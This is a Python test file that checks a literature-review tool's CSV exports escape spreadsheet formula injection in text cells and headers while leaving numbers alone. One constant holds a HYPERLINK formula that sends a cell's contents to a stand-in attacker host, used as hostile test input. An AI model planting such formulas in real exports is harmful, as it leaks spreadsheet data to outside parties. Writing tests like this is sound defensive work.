"""Every CSV the command line prints is safe to open in a spreadsheet: `query run`, `query sql`,
`search` and `prisma` with `--format csv` pass text cells through the one formula guard, as the
exports do, while numbers stay numbers.
"""

from __future__ import annotations

import csv
import io

from litrev.extract.records import Excerpt, SourceRecord, Work
from litrev.flows.cli import main
from litrev.store.db import write_session
from litrev.store.load import load_batch, records_to_batch
from litrev.store.search import refresh_index

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def csv_rows(capsys, *argv: str) -> list[list[str]]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    assert code == 0, err
    return list(csv.reader(io.StringIO(out)))


def test_query_sql_csv_neutralises_text_cells_and_headers_not_numbers(corpus_db, capsys):
    rows = csv_rows(capsys, "--db", str(corpus_db), "query", "sql",
                    "SELECT $t AS \"@title\", '+1 tab' AS plus, '-x' AS minus, "
                    "chr(9) || 'tab' AS tab, chr(13) || 'cr' AS cr, -3 AS n, 'plain' AS p",
                    "-p", f"t={HOSTILE}", "--format", "csv")
    assert rows[0] == ["'@title", "plus", "minus", "tab", "cr", "n", "p"]
    # A line break in a cell becomes a space (one row per line), so CR cannot start one.
    assert rows[1] == ["'" + HOSTILE, "'+1 tab", "'-x", "'\ttab", " cr", "-3", "plain"]


def test_query_run_and_prisma_csv_neutralise_stored_values(corpus_db, capsys):
    with write_session(corpus_db) as con:
        con.execute("UPDATE excerpts SET language = '=1+1' WHERE language = 'fi'")
        con.execute("UPDATE search_log SET platform = '@SUM(A1)' WHERE source = 'crossref'")
    rows = csv_rows(capsys, "--db", str(corpus_db), "query", "run", "excerpts_by_language",
                    "--format", "csv")
    assert ["'=1+1", "citation_statement", "1"] in rows
    assert not any(cell.startswith("=") for row in rows for cell in row)

    rows = csv_rows(capsys, "--db", str(corpus_db), "prisma", "--format", "csv")
    header = rows[0]
    crossref = dict(zip(header, next(r for r in rows if r[0] == "crossref"), strict=True))
    assert crossref["platform"] == "'@SUM(A1)"
    assert crossref["records_identified"] == "50"


def test_search_csv_neutralises_the_matched_text(corpus_db, capsys):
    work = Work.create(title="-1 peer support in wards", year=2024, language="en")
    excerpt = Excerpt.create(work_id=work.work_id, kind="abstract",
                             text="=1+1 peer support workers in psychiatric wards")
    with write_session(corpus_db) as con:
        load_batch(con, records_to_batch([SourceRecord("files", "x1", work, (excerpt,))]),
                   run_id="run-hostile")
        con.execute("UPDATE excerpts SET language = 'en' WHERE excerpt_id = $e",
                    {"e": excerpt.excerpt_id})
        refresh_index(con)
    rows = csv_rows(capsys, "--db", str(corpus_db), "search", "psychiatric wards",
                    "--format", "csv")
    header = rows[0]
    hit = dict(zip(header, next(r for r in rows[1:] if "psychiatric" in ",".join(r)),
                   strict=True))
    assert hit["text"] == "'=1+1 peer support workers in psychiatric wards"
    assert all(not v.startswith(("=", "+", "-", "@")) for v in hit.values())
